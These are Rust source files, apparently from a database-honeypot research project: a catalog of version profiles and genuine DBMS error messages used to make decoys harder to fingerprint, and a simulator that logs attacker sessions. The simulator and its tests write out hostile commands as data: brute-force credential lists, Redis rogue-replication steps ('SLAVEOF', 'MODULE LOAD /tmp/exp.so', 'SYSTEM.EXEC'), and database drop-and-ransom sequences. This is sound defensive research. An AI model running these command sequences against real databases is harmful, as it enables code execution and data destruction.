        // either a malformed or payload event was recorded alongside connect
        let interactive = store.filter(|e| e.kind.is_interactive());
        assert!(!interactive.is_empty());
        // a full 8-byte header with an impossible length is a codec error
        let mut codec = tds::TdsCodec;
        assert!(codec
            .decode(&mut bytes::BytesMut::from(
                &[0xdeu8, 0xad, 0x00, 0x04, 0, 0, 1, 0][..]
            ))
            .is_err());
    }
}
