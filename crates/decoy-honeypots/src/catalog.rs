//! Shared per-DBMS error catalog and version profiles — the hardening
//! layer the fingerprint scorecard drives down.
//!
//! Before this module each honeypot family carried its own ad-hoc banner
//! and error strings, and the slips between them (a Redis 5 answering with
//! the pre-5 unknown-command format, a MySQL syntax error missing the
//! manual clause, a Mongo error without `codeName`) are exactly what
//! multistage fingerprinting probes key on. The catalog centralizes:
//!
//! * **Version constants** — one authoritative version string per family,
//!   referenced by every banner, greeting, and `version()` result.
//! * **[`VersionProfile`]** — the capability facts that must stay coherent
//!   with the version (Mongo 4.4 ⇔ wire version 9, Elasticsearch 5.6 ⇔
//!   Lucene 6.6, Redis 5 ⇔ RESP2). [`VersionProfile::validate`] is called
//!   at deploy time so an incoherent decoy never binds a socket.
//! * **Error renderers** — the real servers' error messages, rendered with
//!   `write!` into a caller-provided buffer (no per-error `format!`).
//!
//! The module is std-only on purpose: `decoy-fingerprint` builds its
//! post-hardening response corpus from these same renderers, so the probe
//! corpus can never drift from what the honeypots actually send.

use std::fmt::{self, Write as _};

// ---------------------------------------------------------------------------
// Version constants: the single source every banner quotes
// ---------------------------------------------------------------------------

/// MySQL server version advertised by the greeting and `@@version`.
pub const MYSQL_VERSION: &str = "8.0.36";
/// PostgreSQL short version.
pub const PG_VERSION: &str = "11.3";
/// PostgreSQL `server_version` parameter value.
pub const PG_SERVER_VERSION: &str = "11.3 (Debian 11.3-1.pgdg90+1)";
/// PostgreSQL `SELECT version()` banner.
pub const PG_VERSION_BANNER: &str =
    "PostgreSQL 11.3 (Debian 11.3-1.pgdg90+1) on x86_64-pc-linux-gnu";
/// MongoDB server version.
pub const MONGO_VERSION: &str = "4.4.18";
/// MongoDB git commit for 4.4.18.
pub const MONGO_GIT_VERSION: &str = "8ed32b5c2c68ebe7f8ae2ebe8d23f36037a17dea";
/// MongoDB wire-protocol ceiling for the 4.4 series.
pub const MONGO_MAX_WIRE_VERSION: i32 = 9;
/// MongoDB serverStatus uptime (seconds): ten days into the window.
pub const MONGO_UPTIME_SECS: f64 = 864_000.0;
/// Redis server version.
pub const REDIS_VERSION: &str = "5.0.7";
/// Elasticsearch version.
pub const ELASTIC_VERSION: &str = "5.6.16";
/// Lucene version paired with Elasticsearch 5.6.
pub const LUCENE_VERSION: &str = "6.6.1";
/// Elasticsearch build hash.
pub const ELASTIC_BUILD_HASH: &str = "3a740d1";
/// CouchDB version.
pub const COUCH_VERSION: &str = "3.3.2";
/// CouchDB git sha.
pub const COUCH_GIT_SHA: &str = "11a234070";

// ---------------------------------------------------------------------------
// Version profiles: capability facts checked for coherence at deploy time
// ---------------------------------------------------------------------------

/// The six catalogued DBMS families.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Family {
    /// MySQL (medium interaction).
    MySql,
    /// PostgreSQL (Sticky-Elephant medium interaction).
    Postgres,
    /// MongoDB (high interaction).
    MongoDb,
    /// Redis (medium interaction).
    Redis,
    /// Elasticsearch (Elasticpot medium interaction).
    Elastic,
    /// CouchDB (medium interaction).
    CouchDb,
}

impl Family {
    /// Every catalogued family, in scorecard order.
    pub const ALL: [Family; 6] = [
        Family::MySql,
        Family::Postgres,
        Family::MongoDb,
        Family::Redis,
        Family::Elastic,
        Family::CouchDb,
    ];

    /// Stable lowercase name (scorecard keys, report rows).
    pub fn name(self) -> &'static str {
        match self {
            Family::MySql => "mysql",
            Family::Postgres => "postgres",
            Family::MongoDb => "mongodb",
            Family::Redis => "redis",
            Family::Elastic => "elastic",
            Family::CouchDb => "couchdb",
        }
    }
}

/// A family's advertised version plus the capability facts that must stay
/// coherent with it. Honeypots read their banner fields from here; the
/// deploy path refuses to bind when [`VersionProfile::validate`] fails.
#[derive(Debug, Clone, Copy)]
pub struct VersionProfile {
    /// Which family this profile describes.
    pub family: Family,
    /// The advertised version string.
    pub version: &'static str,
    /// Capability facts as `(key, value)` pairs.
    pub facts: &'static [(&'static str, &'static str)],
}

impl VersionProfile {
    /// The checked-in profile for `family`.
    pub const fn of(family: Family) -> VersionProfile {
        match family {
            Family::MySql => VersionProfile {
                family,
                version: MYSQL_VERSION,
                facts: &[
                    ("protocol", "10"),
                    ("auth_plugin", "mysql_native_password"),
                    ("charset", "utf8mb4"),
                ],
            },
            Family::Postgres => VersionProfile {
                family,
                version: PG_VERSION,
                facts: &[
                    ("server_version", PG_SERVER_VERSION),
                    ("banner", PG_VERSION_BANNER),
                    ("server_encoding", "UTF8"),
                ],
            },
            Family::MongoDb => VersionProfile {
                family,
                version: MONGO_VERSION,
                facts: &[
                    ("maxWireVersion", "9"),
                    ("minWireVersion", "0"),
                    ("gitVersion", MONGO_GIT_VERSION),
                    ("featureCompatibilityVersion", "4.4"),
                ],
            },
            Family::Redis => VersionProfile {
                family,
                version: REDIS_VERSION,
                facts: &[("proto", "2"), ("mode", "standalone")],
            },
            Family::Elastic => VersionProfile {
                family,
                version: ELASTIC_VERSION,
                facts: &[
                    ("lucene_version", LUCENE_VERSION),
                    ("build_hash", ELASTIC_BUILD_HASH),
                ],
            },
            Family::CouchDb => VersionProfile {
                family,
                version: COUCH_VERSION,
                facts: &[("git_sha", COUCH_GIT_SHA)],
            },
        }
    }

    /// The value of capability fact `key`, if declared.
    pub fn fact(&self, key: &str) -> Option<&'static str> {
        self.facts
            .iter()
            .find(|(k, _)| *k == key)
            .map(|(_, v)| *v)
    }

    /// Check version/capability coherence — the pairings a fingerprinting
    /// scanner cross-references. Deploy refuses to bind on `Err`.
    pub fn validate(&self) -> Result<(), String> {
        let fail = |what: &str| -> Result<(), String> {
            let mut msg = String::new();
            let _ = write!(
                msg,
                "incoherent {} profile (version {}): {what}",
                self.family.name(),
                self.version
            );
            Err(msg)
        };
        match self.family {
            Family::MongoDb => {
                // wire-protocol ceiling moves in lockstep with the series
                let expected = match self.version {
                    v if v.starts_with("4.2") => "8",
                    v if v.starts_with("4.4") => "9",
                    v if v.starts_with("5.0") => "13",
                    v if v.starts_with("6.0") => "17",
                    _ => return fail("unknown series, add its wire version"),
                };
                if self.fact("maxWireVersion") != Some(expected) {
                    return fail("maxWireVersion does not match the release series");
                }
                let git_ok = self
                    .fact("gitVersion")
                    .is_some_and(|g| g.len() == 40 && g.bytes().all(|b| b.is_ascii_hexdigit()));
                if !git_ok {
                    return fail("gitVersion is not a 40-char commit hash");
                }
                let fcv_ok = self
                    .fact("featureCompatibilityVersion")
                    .is_some_and(|f| self.version.starts_with(f));
                if !fcv_ok {
                    return fail("featureCompatibilityVersion disagrees with version");
                }
            }
            Family::Elastic => {
                let expected = match self.version {
                    v if v.starts_with("5.6") => "6.6",
                    v if v.starts_with("6.8") => "7.7",
                    v if v.starts_with("7.17") => "8.11",
                    _ => return fail("unknown series, add its lucene pairing"),
                };
                let lucene_ok = self
                    .fact("lucene_version")
                    .is_some_and(|l| l.starts_with(expected));
                if !lucene_ok {
                    return fail("lucene_version does not pair with this release");
                }
            }
            Family::Redis => {
                let major_pre_6 = self.version.starts_with('3')
                    || self.version.starts_with('4')
                    || self.version.starts_with('5');
                // RESP3 only exists from Redis 6 on
                if major_pre_6 && self.fact("proto") != Some("2") {
                    return fail("RESP3 advertised by a pre-6 server");
                }
            }
            Family::Postgres => {
                let sv_ok = self
                    .fact("server_version")
                    .is_some_and(|sv| sv.starts_with(self.version));
                if !sv_ok {
                    return fail("server_version parameter disagrees with version");
                }
                let banner_ok = self
                    .fact("banner")
                    .is_some_and(|b| b.contains(self.version));
                if !banner_ok {
                    return fail("version() banner disagrees with version");
                }
            }
            Family::MySql => {
                if self.fact("protocol") != Some("10") {
                    return fail("handshake protocol must be 10");
                }
                let plugin_ok = matches!(
                    self.fact("auth_plugin"),
                    Some("mysql_native_password" | "caching_sha2_password")
                );
                if !plugin_ok {
                    return fail("unknown default auth plugin");
                }
            }
            Family::CouchDb => {
                let sha_ok = self
                    .fact("git_sha")
                    .is_some_and(|s| !s.is_empty() && s.bytes().all(|b| b.is_ascii_hexdigit()));
                if !sha_ok {
                    return fail("git_sha is not a hex commit prefix");
                }
            }
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Error renderers: real servers' messages, written into caller buffers
// ---------------------------------------------------------------------------

// decoy-hot-path: fn -- renders on every unknown-command reply
/// Redis ≥5 unknown-command error: backticked command plus the first args,
/// e.g. `` ERR unknown command `FOO`, with args beginning with: `a`, ``.
/// Pre-5 Redis quoted the name instead — the exact slip scanners probe.
pub fn redis_unknown_command<W, I, T>(out: &mut W, cmd: &str, args: I) -> fmt::Result
where
    W: fmt::Write,
    I: IntoIterator<Item = T>,
    T: fmt::Display,
{
    write!(out, "ERR unknown command `{cmd}`, with args beginning with: ")?;
    for arg in args.into_iter().take(20) {
        write!(out, "`{arg}`, ")?;
    }
    Ok(())
}

// decoy-hot-path: fn -- renders on every arity-error reply
/// Redis wrong-arity error, lowercase command name as the real server does.
pub fn redis_wrong_args<W: fmt::Write>(out: &mut W, cmd: &str) -> fmt::Result {
    write!(out, "ERR wrong number of arguments for '{cmd}' command")
}

// decoy-hot-path: fn -- renders on every invalid-SQL reply
/// MySQL 1064: the full message including the manual clause real servers
/// append (the ad-hoc string dropped it — a probe-visible tell).
pub fn mysql_syntax_error<W: fmt::Write>(out: &mut W, near: &str) -> fmt::Result {
    write!(
        out,
        "You have an error in your SQL syntax; check the manual that corresponds \
         to your MySQL server version for the right syntax to use near '{near}' at line 1"
    )
}

// decoy-hot-path: fn -- renders on every rejected login
/// PostgreSQL 28P01 message body.
pub fn pg_auth_failed<W: fmt::Write>(out: &mut W, user: &str) -> fmt::Result {
    write!(out, "password authentication failed for user \"{user}\"")
}

// decoy-hot-path: fn -- renders on every invalid-SQL reply
/// PostgreSQL 42601 message body.
pub fn pg_syntax_error<W: fmt::Write>(out: &mut W, near: &str) -> fmt::Result {
    write!(out, "syntax error at or near \"{near}\"")
}

/// MongoDB `codeName` for the error codes the honeypot answers. Real
/// servers always send it next to `code`; its absence is a one-probe tell.
pub fn mongo_code_name(code: i32) -> &'static str {
    match code {
        18 => "AuthenticationFailed",
        26 => "NamespaceNotFound",
        59 => "CommandNotFound",
        40415 => "Location40415",
        _ => "UnknownError",
    }
}

// decoy-hot-path: fn -- renders on every unknown-index reply
/// Elasticsearch 5.x `index_not_found_exception` body: the full resource
/// envelope (`resource.type`, `resource.id`, `index_uuid`, `index`) the
/// real server sends, not just type+reason.
pub fn elastic_index_not_found<W: fmt::Write>(out: &mut W, index: &str) -> fmt::Result {
    out.write_str("{\"error\":{\"root_cause\":[")?;
    elastic_infe_object(out, index)?;
    out.write_str("],")?;
    elastic_infe_fields(out, index)?;
    out.write_str("},\"status\":404}")
}

// decoy-hot-path: fn -- inner object of the 404 body
fn elastic_infe_object<W: fmt::Write>(out: &mut W, index: &str) -> fmt::Result {
    out.write_char('{')?;
    elastic_infe_fields(out, index)?;
    out.write_char('}')
}

// decoy-hot-path: fn -- shared fields of the 404 body
fn elastic_infe_fields<W: fmt::Write>(out: &mut W, index: &str) -> fmt::Result {
    out.write_str(
        "\"type\":\"index_not_found_exception\",\"reason\":\"no such index\",\
         \"resource.type\":\"index_or_alias\",\"resource.id\":\"",
    )?;
    json_escaped(out, index)?;
    out.write_str("\",\"index_uuid\":\"_na_\",\"index\":\"")?;
    json_escaped(out, index)?;
    out.write_str("\"")
}

// decoy-hot-path: fn -- renders on every missing-document reply
/// CouchDB missing-resource body.
pub fn couch_not_found<W: fmt::Write>(out: &mut W) -> fmt::Result {
    out.write_str("{\"error\":\"not_found\",\"reason\":\"missing\"}")
}

// decoy-hot-path: fn -- escapes attacker-controlled text inside JSON bodies
fn json_escaped<W: fmt::Write>(out: &mut W, s: &str) -> fmt::Result {
    for c in s.chars() {
        match c {
            '"' => out.write_str("\\\"")?,
            '\\' => out.write_str("\\\\")?,
            c if (c as u32) < 0x20 => write!(out, "\\u{:04x}", c as u32)?,
            c => out.write_char(c)?,
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_checked_in_profiles_are_coherent() {
        for family in Family::ALL {
            VersionProfile::of(family)
                .validate()
                .unwrap_or_else(|e| panic!("{e}"));
        }
    }

    #[test]
    fn incoherent_profiles_are_refused() {
        let wrong_wire = VersionProfile {
            family: Family::MongoDb,
            version: "4.4.18",
            facts: &[
                ("maxWireVersion", "8"),
                ("gitVersion", MONGO_GIT_VERSION),
                ("featureCompatibilityVersion", "4.4"),
            ],
        };
        assert!(wrong_wire.validate().unwrap_err().contains("maxWireVersion"));
        let wrong_lucene = VersionProfile {
            family: Family::Elastic,
            version: "5.6.16",
            facts: &[("lucene_version", "8.11.0"), ("build_hash", "3a740d1")],
        };
        assert!(wrong_lucene.validate().is_err());
        let resp3_on_5 = VersionProfile {
            family: Family::Redis,
            version: "5.0.7",
            facts: &[("proto", "3")],
        };
        assert!(resp3_on_5.validate().unwrap_err().contains("RESP3"));
    }

    #[test]
    fn redis_unknown_command_uses_backticks() {
        let mut s = String::new();
        redis_unknown_command(&mut s, "TOTALLYBOGUS", ["a", "b"]).unwrap();
        assert_eq!(
            s,
            "ERR unknown command `TOTALLYBOGUS`, with args beginning with: `a`, `b`, "
        );
        let mut bare = String::new();
        redis_unknown_command(&mut bare, "X", std::iter::empty::<&str>()).unwrap();
        assert_eq!(bare, "ERR unknown command `X`, with args beginning with: ");
    }

    #[test]
    fn mysql_syntax_error_carries_the_manual_clause() {
        let mut s = String::new();
        mysql_syntax_error(&mut s, "FROBNICATE").unwrap();
        assert!(s.contains("check the manual"));
        assert!(s.ends_with("at line 1"));
    }

    #[test]
    fn pg_renderers_match_the_wire_constructors() {
        use decoy_wire::pgwire::BackendMessage;
        let mut auth = String::new();
        pg_auth_failed(&mut auth, "postgres").unwrap();
        let BackendMessage::ErrorResponse { message, code, .. } =
            BackendMessage::auth_failed("postgres")
        else {
            panic!("expected error response");
        };
        assert_eq!(auth, message);
        assert_eq!(code, "28P01");
        let mut syn = String::new();
        pg_syntax_error(&mut syn, "blargh").unwrap();
        let BackendMessage::ErrorResponse { message, .. } = BackendMessage::syntax_error("blargh")
        else {
            panic!("expected error response");
        };
        assert_eq!(syn, message);
    }

    #[test]
    fn elastic_404_body_is_valid_json_with_resource_fields() {
        let mut s = String::new();
        elastic_index_not_found(&mut s, "se\"cret").unwrap();
        let v: serde_json::Value = serde_json::from_str(&s).unwrap();
        assert_eq!(v["error"]["type"], "index_not_found_exception");
        assert_eq!(v["error"]["resource.id"], "se\"cret");
        assert_eq!(v["error"]["index_uuid"], "_na_");
        assert_eq!(v["error"]["root_cause"][0]["resource.type"], "index_or_alias");
        assert_eq!(v["status"], 404);
    }

    #[test]
    fn mongo_code_names_cover_the_honeypot_codes() {
        assert_eq!(mongo_code_name(59), "CommandNotFound");
        assert_eq!(mongo_code_name(26), "NamespaceNotFound");
        assert_eq!(mongo_code_name(18), "AuthenticationFailed");
        assert_eq!(mongo_code_name(40415), "Location40415");
        assert_eq!(mongo_code_name(9999), "UnknownError");
    }

    #[test]
    fn couch_not_found_is_the_real_body() {
        let mut s = String::new();
        couch_not_found(&mut s).unwrap();
        assert_eq!(s, r#"{"error":"not_found","reason":"missing"}"#);
    }
}
