//! Direct mode: emit the events a honeypot would log, without TCP.
//!
//! Used for full-volume runs (18 M login attempts need no sockets to
//! aggregate correctly) and validated against network mode by the
//! `modes_equivalent` integration test: for the same planned session, the
//! aggregates the paper's tables are built from (per-source event kinds,
//! credentials, commands, classifications) coincide.
//!
//! Stateless caveat: the high-interaction MongoDB honeypot is *stateful*
//! (a second ransom visit finds only the previous note). Direct mode always
//! emits the first-visit shape; every aggregate in the tables is invariant
//! to this (same source, same kinds, same tags).

use crate::schedule::PlannedSession;
use crate::scripts::{self, CampaignParams, SessionScript};
use decoy_net::time::Timestamp;
use decoy_store::{ConfigVariant, Dbms, Event, EventKind, EventStore, HoneypotId};
use std::net::IpAddr;

/// Context for direct emission against one honeypot instance.
pub struct DirectSink<'a> {
    /// The shared event store.
    pub store: &'a EventStore,
    /// Which honeypot instance "receives" the session.
    pub honeypot: HoneypotId,
    /// Session counter for the instance (incremented per connection).
    pub session_seq: &'a mut u64,
    /// `(key, value)` entries present in a fake-data Redis instance
    /// (TYPE walks and harvest-and-reuse sessions).
    pub fake_entries: &'a [(String, String)],
}

impl DirectSink<'_> {
    fn next_session(&mut self) -> u64 {
        *self.session_seq += 1;
        *self.session_seq
    }

    fn log(&self, ts: Timestamp, src: IpAddr, session: u64, kind: EventKind) {
        self.store.log(Event {
            ts,
            honeypot: self.honeypot,
            src,
            session,
            kind,
        });
    }

    fn command(&self, ts: Timestamp, src: IpAddr, session: u64, raw: &str) {
        self.log(
            ts,
            src,
            session,
            EventKind::Command {
                action: decoy_store::normalize_action(raw),
                raw: raw.to_string(),
            },
        );
    }

    fn login(&self, ts: Timestamp, src: IpAddr, session: u64, u: &str, p: &str, ok: bool) {
        self.log(
            ts,
            src,
            session,
            EventKind::LoginAttempt {
                username: u.to_string(),
                password: p.to_string(),
                success: ok,
            },
        );
    }

    fn payload(&self, ts: Timestamp, src: IpAddr, session: u64, bytes: &[u8]) {
        let recognized = decoy_wire::foreign::recognize(bytes).map(|f| f.label().to_string());
        let preview: String = String::from_utf8_lossy(&bytes[..bytes.len().min(256)])
            .chars()
            .map(|c| if c.is_control() { '.' } else { c })
            .collect();
        self.log(
            ts,
            src,
            session,
            EventKind::Payload {
                len: bytes.len(),
                recognized,
                preview,
            },
        );
    }
}

/// Render a Redis command as the medium honeypot logs it (name uppercased).
fn render_redis(parts: &[String]) -> String {
    let mut out = parts.first().map(|n| n.to_uppercase()).unwrap_or_default();
    for arg in &parts[1..] {
        out.push(' ');
        out.push_str(arg);
    }
    out
}

/// Emit the events for one planned session.
pub fn emit_session(sink: &mut DirectSink<'_>, session: &PlannedSession) {
    let ts = session.ts;
    let src = IpAddr::V4(session.src);
    let params = CampaignParams::derive(u64::from(u32::from(session.src)));
    let hp = sink.honeypot;
    let pg_open = hp.dbms == Dbms::Postgres
        && hp.level == decoy_store::InteractionLevel::Medium
        && hp.config != ConfigVariant::LoginDisabled;

    // one connection with a body of events
    let one = |sink: &mut DirectSink<'_>, body: &dyn Fn(&DirectSink<'_>, u64)| {
        let s = sink.next_session();
        sink.log(ts, src, s, EventKind::Connect);
        body(sink, s);
        sink.log(ts, src, s, EventKind::Disconnect);
    };

    match &session.script {
        SessionScript::ConnectOnly => one(sink, &|_, _| {}),
        SessionScript::MysqlBrute { creds } | SessionScript::MssqlBrute { creds } => {
            for (u, p) in creds {
                one(sink, &|k, s| k.login(ts, src, s, u, p, false));
            }
        }
        SessionScript::PgBrute { creds } => {
            for (u, p) in creds {
                // against low or login-disabled instances logins fail; the
                // medium open config accepts (§6)
                let ok = pg_open;
                one(sink, &|k, s| k.login(ts, src, s, u, p, ok));
            }
        }
        SessionScript::PgLogin {
            user,
            password,
            repeats,
        } => {
            for _ in 0..(*repeats).max(1) {
                let ok = pg_open;
                one(sink, &|k, s| k.login(ts, src, s, user, password, ok));
            }
        }
        SessionScript::RedisAuth { passwords } => one(sink, &|k, s| {
            for pw in passwords {
                if hp.level == decoy_store::InteractionLevel::Medium {
                    k.command(ts, src, s, &format!("AUTH {pw}"));
                }
                k.login(ts, src, s, "default", pw, false);
            }
        }),
        SessionScript::RedisScout { type_walk } => {
            let keys: Vec<String> = if *type_walk && hp.config == ConfigVariant::FakeData {
                sink.fake_entries.iter().map(|(k, _)| k.clone()).collect()
            } else {
                Vec::new()
            };
            one(sink, &move |k, s| {
                k.command(ts, src, s, "INFO");
                k.command(ts, src, s, "DBSIZE");
                k.command(ts, src, s, "KEYS *");
                for key in &keys {
                    k.command(ts, src, s, &format!("TYPE {key}"));
                }
            })
        }
        SessionScript::ElasticScout { deep } => one(sink, &|k, s| {
            k.command(ts, src, s, "GET /");
            k.command(ts, src, s, "GET /_cluster/health");
            k.command(ts, src, s, "GET /_nodes");
            if *deep {
                k.command(ts, src, s, "GET /_cat/indices?v");
                k.command(ts, src, s, r#"POST /_search {"query":{"match_all":{}}}"#);
            }
        }),
        SessionScript::MongoScout { deep } => one(sink, &|k, s| {
            k.command(ts, src, s, "ismaster");
            k.command(ts, src, s, "buildInfo");
            if *deep {
                k.command(ts, src, s, "listDatabases");
                k.command(ts, src, s, "listCollections admin");
                k.command(ts, src, s, "listCollections customers");
            }
        }),
        SessionScript::PgScout => one(sink, &|k, s| {
            k.login(ts, src, s, "postgres", "postgres", pg_open);
            if pg_open {
                k.command(ts, src, s, "SELECT version();");
            }
        }),
        SessionScript::P2pInfect => one(sink, &|k, s| {
            for cmd in scripts::p2pinfect_commands(&params) {
                k.command(ts, src, s, &render_redis(&cmd));
            }
        }),
        SessionScript::AbcBot => one(sink, &|k, s| {
            for cmd in scripts::abcbot_commands(&params) {
                k.command(ts, src, s, &render_redis(&cmd));
            }
        }),
        SessionScript::RedisCve20220543 => one(sink, &|k, s| {
            for cmd in scripts::redis_cve_commands() {
                k.command(ts, src, s, &render_redis(&cmd));
            }
        }),
        SessionScript::Kinsing => one(sink, &|k, s| {
            k.login(ts, src, s, "postgres", "postgres", pg_open);
            if pg_open {
                for q in scripts::kinsing_queries(&params) {
                    k.command(ts, src, s, &q);
                }
            }
        }),
        SessionScript::PgPrivilege => one(sink, &|k, s| {
            k.login(ts, src, s, "postgres", "postgres", pg_open);
            if pg_open {
                for q in scripts::pg_privilege_queries(&params) {
                    k.command(ts, src, s, &q);
                }
            }
        }),
        SessionScript::Lucifer => one(sink, &|k, s| {
            let body = scripts::lucifer_search_body(&params);
            k.command(ts, src, s, &format!("POST /_search {body}"));
            for stage in scripts::lucifer_shell_stages(&params) {
                k.command(
                    ts,
                    src,
                    s,
                    &format!(
                        r#"POST /_search {{"script_fields":{{"exp":{{"script":"{stage}"}}}}}}"#
                    ),
                );
            }
        }),
        SessionScript::MongoRansom { group } => one(sink, &|k, s| {
            k.command(ts, src, s, "ismaster");
            k.command(ts, src, s, "listDatabases");
            k.command(ts, src, s, "listCollections customers");
            k.command(ts, src, s, "find customers.records");
            k.command(ts, src, s, "drop customers.records");
            k.command(ts, src, s, "insert customers.README");
            let _ = scripts::ransom_note(*group, &params.hash_hex()[..8]);
        }),
        SessionScript::HarvestAndReuse => {
            let harvested: Vec<(String, String)> =
                sink.fake_entries.iter().take(8).cloned().collect();
            one(sink, &move |k, s| {
                k.command(ts, src, s, "KEYS *");
                for (key, _) in &harvested {
                    k.command(ts, src, s, &format!("GET {key}"));
                }
                for (_, password) in harvested.iter().take(4) {
                    k.command(ts, src, s, &format!("AUTH {password}"));
                    k.login(ts, src, s, "default", password, false);
                }
            })
        }
        SessionScript::CouchScout => one(sink, &|k, s| {
            k.command(ts, src, s, "GET /");
            k.command(ts, src, s, "GET /_all_dbs");
            k.command(ts, src, s, "GET /customers/_all_docs");
        }),
        SessionScript::CouchRansom => one(sink, &|k, s| {
            k.command(ts, src, s, "GET /_all_dbs");
            k.command(ts, src, s, "GET /customers/_all_docs");
            k.command(ts, src, s, "DELETE /customers");
            let note = scripts::ransom_note(0, &params.hash_hex()[..8]);
            k.command(
                ts,
                src,
                s,
                &format!(r#"PUT /warning/readme {{"note":"{note}"}}"#),
            );
        }),
        SessionScript::MysqlScout => one(sink, &|k, s| {
            k.login(ts, src, s, "root", "root", true);
            k.command(ts, src, s, "SELECT @@version");
            k.command(ts, src, s, "SHOW DATABASES");
        }),
        SessionScript::RdpProbe => one(sink, &|k, s| {
            k.payload(ts, src, s, &foreign_rdp());
        }),
        SessionScript::JdwpProbe => one(sink, &|k, s| {
            k.payload(ts, src, s, b"JDWP-Handshake");
        }),
        SessionScript::VmwareRecon => one(sink, &|k, s| {
            let body = decoy_wire::foreign::vmware_soap_body();
            k.command(ts, src, s, &format!("POST /sdk {body}"));
            k.payload(ts, src, s, body.as_bytes());
        }),
        SessionScript::CraftCms => one(sink, &|k, s| {
            let body = decoy_wire::foreign::craftcms_probe_body();
            k.command(
                ts,
                src,
                s,
                &format!("POST /index.php?p=admin/actions/conditions/render {body}"),
            );
            k.payload(ts, src, s, body.as_bytes());
        }),
        SessionScript::FingerprintProbe => one(sink, &|k, s| match hp.dbms {
            Dbms::Redis => {
                k.command(ts, src, s, "INFO server");
                k.command(ts, src, s, "FINGERPRINTPROBE arg");
            }
            Dbms::Postgres => {
                k.login(ts, src, s, "postgres", "postgres", pg_open);
                if pg_open {
                    k.command(ts, src, s, "SELECT version();");
                    k.command(ts, src, s, "FROBNICATE the catalog");
                }
            }
            Dbms::MySql => {
                let ok = hp.level == decoy_store::InteractionLevel::Medium;
                k.login(ts, src, s, "root", "root", ok);
                if ok {
                    k.command(ts, src, s, "SELECT @@version");
                    k.command(ts, src, s, "FINGERPRINT PROBE");
                }
            }
            Dbms::MongoDb => {
                k.command(ts, src, s, "ismaster");
                k.command(ts, src, s, "buildInfo");
                k.command(ts, src, s, "fingerprintprobe");
            }
            Dbms::Elastic => {
                k.command(ts, src, s, "GET /");
                k.command(ts, src, s, "GET /fingerprint_probe_missing");
            }
            Dbms::CouchDb => {
                k.command(ts, src, s, "GET /");
                k.command(ts, src, s, "GET /fingerprint_probe_missing_db");
            }
            // no probe battery for the remaining families: connect only
            _ => {}
        }),
    }
}

fn foreign_rdp() -> Vec<u8> {
    decoy_wire::foreign::rdp_connection_request("Administr")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::actors::TargetSelector;
    use decoy_net::time::EXPERIMENT_START;
    use decoy_store::InteractionLevel;
    use std::net::Ipv4Addr;

    fn planned(script: SessionScript) -> PlannedSession {
        PlannedSession {
            ts: EXPERIMENT_START,
            actor_idx: 0,
            src: Ipv4Addr::new(60, 7, 7, 7),
            target: TargetSelector::low_multi(Dbms::Mssql),
            script,
        }
    }

    fn run(
        hp: HoneypotId,
        script: SessionScript,
        fake_entries: &[(String, String)],
    ) -> std::sync::Arc<EventStore> {
        let store = EventStore::new();
        let mut seq = 0;
        let mut sink = DirectSink {
            store: &store,
            honeypot: hp,
            session_seq: &mut seq,
            fake_entries,
        };
        emit_session(&mut sink, &planned(script));
        store
    }

    fn low(dbms: Dbms) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0)
    }

    fn med(dbms: Dbms, config: ConfigVariant) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Medium, config, 0)
    }

    #[test]
    fn brute_emits_one_connection_per_credential() {
        let creds = vec![
            ("sa".to_string(), "123".to_string()),
            ("sa".to_string(), "1234".to_string()),
            ("admin".to_string(), "123456".to_string()),
        ];
        let store = run(low(Dbms::Mssql), SessionScript::MssqlBrute { creds }, &[]);
        let events = store.all();
        let connects = events
            .iter()
            .filter(|e| e.kind == EventKind::Connect)
            .count();
        let logins = events
            .iter()
            .filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }))
            .count();
        assert_eq!(connects, 3);
        assert_eq!(logins, 3);
        // distinct session ids per connection
        let sessions: std::collections::HashSet<u64> = events.iter().map(|e| e.session).collect();
        assert_eq!(sessions.len(), 3);
    }

    #[test]
    fn pg_login_success_depends_on_config() {
        let open = run(
            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::PgScout,
            &[],
        );
        assert_eq!(
            open.filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: true, .. }))
                .len(),
            1
        );
        let closed = run(
            med(Dbms::Postgres, ConfigVariant::LoginDisabled),
            SessionScript::PgScout,
            &[],
        );
        assert_eq!(
            closed
                .filter(|e| matches!(e.kind, EventKind::LoginAttempt { success: false, .. }))
                .len(),
            1
        );
        // no post-login query against the restricted config
        assert_eq!(
            closed
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len(),
            0
        );
    }

    #[test]
    fn type_walk_uses_provided_keys() {
        let keys: Vec<(String, String)> = (0..5)
            .map(|i| (format!("user:u{i}"), format!("pw{i}")))
            .collect();
        let store = run(
            med(Dbms::Redis, ConfigVariant::FakeData),
            SessionScript::RedisScout { type_walk: true },
            &keys,
        );
        let types = store.filter(
            |e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("TYPE ")),
        );
        assert_eq!(types.len(), 5);
        // no walk on the default config
        let store = run(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::RedisScout { type_walk: true },
            &keys,
        );
        assert_eq!(
            store
                .filter(|e| matches!(&e.kind, EventKind::Command { raw, .. } if raw.starts_with("TYPE ")))
                .len(),
            0
        );
    }

    #[test]
    fn campaign_actions_match_network_rendering() {
        let store = run(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::P2pInfect,
            &[],
        );
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert!(actions.iter().any(|a| a == "SLAVEOF <IP> <N>"));
        assert!(actions.iter().any(|a| a == "MODULE LOAD /tmp/exp.so"));
        assert!(actions.iter().any(|a| a.starts_with("SYSTEM.EXEC")));
    }

    #[test]
    fn foreign_probes_are_recognized() {
        let store = run(
            med(Dbms::Redis, ConfigVariant::Default),
            SessionScript::JdwpProbe,
            &[],
        );
        assert_eq!(
            store
                .filter(|e| matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "jdwp-scan"))
                .len(),
            1
        );
        let store = run(
